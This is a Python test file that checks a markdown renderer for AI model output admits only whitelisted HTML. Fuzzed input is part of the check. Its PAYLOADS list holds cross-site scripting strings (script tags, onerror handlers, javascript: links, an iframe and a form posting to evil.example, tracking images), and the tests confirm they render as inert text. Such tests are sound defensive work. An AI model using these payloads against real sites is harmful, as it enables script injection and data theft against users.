"""Model output is hostile input: whatever it holds, only known tags reach the page, and nothing is fetched."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from annotation import markdown
from annotation.markdown import render_markdown

TAGS = markdown._TAGS
CLASSES = markdown._CLASSES["span"]


class Strict(HTMLParser):
    """Fails on everything that the page must never hold."""

    def __init__(self) -> None:
        super().__init__()
        self.text: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        if tag not in ("br", "hr"):
            self.open.append(tag)
        for name, value in attrs:
            if name == "dir":
                assert tag in markdown._BLOCKS and value == "auto"
                continue
            assert (tag, name) in {
                ("a", "href"),
                ("a", "title"),
                ("a", "rel"),
                ("a", "target"),
                ("ol", "start"),
                ("pre", "tabindex"),
                ("span", "class"),
            }, (tag, name)
            if name == "href":
                assert urlsplit((value or "").strip()).scheme in ("http", "https", "mailto", ""), value
            if name == "class":
                assert set((value or "").split()) <= CLASSES, value
            if name == "rel":
                assert value == "noopener nofollow noreferrer"

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, "a tag closes what it did not open: text could leave its panel"

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def check(html: str) -> str:
    """Read the HTML strictly; gives its text."""
    parser = Strict()
    parser.feed(html)
    parser.close()
    assert not parser.open
    return "".join(parser.text)


PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "</div></section></main><form action='//evil.example'><input name=choice>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
    '<https://e.example/"onclick=alert(1)>',
    "![x](https://tracker.example/p.png)",
    "![<b onclick=alert(1)>](//tracker.example/p.png 'x')",
    "[![x](https://tracker.example/p.png)](https://e.example)",
    '```"onclick=alert(1)\n<script>alert(1)</script>\n```',
    "```html\n<script>alert(1)</script>\n```",
    "$<script>alert(1)</script>$ and $$</span><script>alert(1)</script>$$",
    "\\(</span><img src=x onerror=alert(1)>\\) \\[<style>*{display:none}</style>\\]",
    "\\begin{align}</span><script>x</script>\\end{align}",
    "<style>*{display:none}</style>",
    "<!-- --><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[a]: javascript:alert(1)\n\n[a]",
    "| a |\n|---|\n| <script>x</script> |",
    "\u202eevil\u202c \u0000 \ufffe",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_known_attacks_come_out_as_text(payload: str) -> None:
    html = render_markdown(payload).html
    check(html)
    assert "<img" not in html and "<script" not in html


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>[]()!*_`~#|-+.:/\\$&;\"'= \n\tabjs{}0\u202e")), max_size=200))
@example("\\[\n\\]")
@example("> \\[\nx\\]")
@example("- $$\n  x\n\n$$")
def test_any_soup_of_marks_is_safe(text: str) -> None:
    check(render_markdown(text).html)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.sampled_from([*PAYLOADS, "> ", "- ", "1. ", "    ", "\n\n", "\n", "```\n", "$", "$$", "**", "text "]))
)
def test_any_mix_of_attacks_is_safe(parts: list[str]) -> None:
    check(render_markdown("".join(parts)).html)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(alphabet="abcxyz0123456789", min_size=1, max_size=8), max_size=30))
def test_plain_words_are_neither_lost_nor_changed(words: list[str]) -> None:
    rendered = render_markdown(" ".join(words))
    assert check(rendered.html).split() == words
    assert rendered.words == len(words)


def test_an_image_is_shown_as_its_description_and_address() -> None:
    html = render_markdown("![a **red** cat](https://tracker.example/p.png)").html
    assert check(html).strip() == "[image: a red cat] https://tracker.example/p.png"


def test_code_is_highlighted_by_classes_and_without_inline_styles() -> None:
    html = render_markdown("```python\ndef f(): return '<b>'\n```").html
    assert '<span class="k">def</span>' in html and "style=" not in html
    assert check(html) == "def f(): return '<b>'\n\n"


def test_an_unknown_language_is_shown_plainly() -> None:
    assert check(render_markdown("```no-such-language\nx < 1\n```").html) == "x < 1\n\n"


@pytest.mark.parametrize(
    ("source", "formula"),
    [
        ("so $x^2 < y$ holds", "x^2 < y"),
        (r"so \(x_1 * y_1 * z\) holds", "x_1 * y_1 * z"),
        ("$$\nx\n- y\n$$", "x\n- y"),
        ("\\[\nx\n- y\n\\]", "x\n- y"),
        (r"in a line \[ x \] too", "x"),
        ("\\begin{align}\na &= b \\\\\n- c\n\\end{align}", "\\begin{align}\na &= b \\\\\n- c\n\\end{align}"),
        ("- item\n\n  \\[\n  z\n  \\]", "z"),
    ],
)
def test_formulas_reach_the_page_unchanged(source: str, formula: str) -> None:
    rendered = render_markdown(source)
    html = rendered.html.replace("&lt;", "<").replace("&amp;", "&")
    assert f'">{formula}</span>' in html


@pytest.mark.parametrize("source", ["it costs $5 or $6", r"`\(x\)`", "    \\[\n    x\n    \\]", r"an open \( bracket"])
def test_what_only_looks_like_a_formula_is_text(source: str) -> None:
    rendered = render_markdown(source)
    assert "math" not in rendered.html


def test_the_same_text_is_rendered_once() -> None:
    assert render_markdown("only once, please") is render_markdown("only once, please")


@pytest.mark.parametrize("text", ["word " * 20_000, "![" * 5_000])
def test_what_would_take_seconds_to_parse_is_shown_as_it_is(text: str) -> None:
    rendered = render_markdown(text)
    assert check(rendered.html) == text
    assert rendered.html.startswith("<pre")


def test_a_long_text_comes_in_pieces_that_end_with_a_line_or_a_word() -> None:
    text = "A line of words.\n" * 5_000 + "\n\n" + "word " * 5_000 + "x" * 10_000
    html = render_markdown(text).html
    pieces = re.findall(r"<pre dir=\"auto\">(.*?)</pre>", html, re.S)
    assert "".join(pieces) == text and max(map(len, pieces)) <= 3_000
    ends = [piece[-1] for piece in pieces]
    assert ends.count("\n") > 25 and ends.count(" ") > 5 and ends.count("x") <= 5


def test_every_block_has_the_direction_of_its_own_script() -> None:
    html = render_markdown("An English line.\n\nسطر بالعربية\n\n- שורה בעברית\n\n> quoted\n\n```\ncode\n```").html
    assert re.findall(r"<(\w+) dir=\"auto\"", html) == ["p", "p", "ul", "blockquote"]
